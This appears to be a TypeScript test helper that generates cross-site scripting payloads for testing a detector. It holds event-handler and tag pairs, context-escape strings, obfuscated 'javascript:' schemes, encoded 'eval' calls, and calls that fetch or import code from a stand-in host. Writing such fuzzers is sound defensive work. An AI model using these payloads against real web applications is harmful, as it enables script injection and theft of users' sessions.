import type { Random } from '#test/support/random.ts'

/** What a payload calls when it runs; xss-probe.ts detects each. */
const ACTS = [
  'alert(1)',
  'print()',
  'confirm(1)',
  'sprung(1)',
  'top.sprung(1)',
  "fetch('//sprung.invalid')",
  "import('//sprung.invalid/x.js')",
  "new Image().src='//sprung.invalid'",
  'document.body.dataset.sprung=1',
  'Object.prototype.sprung=1',
  'self[`ale`+`rt`](1)',
  "Function('alert(1)')()",
  "setTimeout('alert(1)')",
  'eval(atob`YWxlcnQoMSk`)',
]
export const TAGS = [
  'img',
  'svg',
  'body',
  'details',
  'input',
  'video',
  'audio',
  'iframe',
  'object',
  'select',
  'x',
  'marquee',
  'math',
  'a',
]
export const HANDLERS: Record<string, string> = {
  img: 'src=x onerror',
  svg: 'onload',
  body: 'onpageshow',
  details: 'open ontoggle',
  input: 'autofocus onfocus',
  video: 'src=x onerror',
  audio: 'src=x onerror',
  iframe: 'onload',
  object: 'data=x onerror',
  select: 'autofocus onfocus',
  x: 'tabindex=1 autofocus onfocus',
  marquee: 'onstart',
  math: 'onmouseover',
  a: 'onpointerenter',
}
/** Leaves the context that a text may be inserted into. */
export const EXITS = [
  '',
  '',
  '',
  '">',
  "'>",
  '`>',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</template>',
  '</noscript>',
  '</option></select>',
  '-->',
  ']]>',
  '"; ',
  "'; ",
  '*/',
  '</p>',
  '</button></td></tr></table>',
  '\u2028',
  '\\',
  '\\"',
  '\n\n',
  '" x="',
  '{{',
  '${',
  '\u202e',
  '</svg>',
]
const BLANKS = [' ', '/', '\t', '\n', '\f', '/ /', '\u00a0']
export const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  '\u0001javascript:',
  ' javascript:',
  'javascript&colon;',
  '&#106;avascript:',
  'vbscript:',
  'data:text/html,',
]

export type Family = (random: Random) => string
export const scriptCall = (random: Random) => random.oneOf(ACTS)
export const blank = (random: Random) => random.oneOf(BLANKS)
export const quoted = (random: Random, text: string) => {
  const quote = random.oneOf(['', '"', "'"])
  return `${quote}${text}${quote}`
}
export const asEntities = (text: string) =>
  Array.from(text, (letter) => `&#x${letter.codePointAt(0)!.toString(16)};`).join('')
export const mixed = (random: Random, text: string) =>
  Array.from(text, (letter) => (random.next() < 0.5 ? letter.toUpperCase() : letter.toLowerCase())).join('')
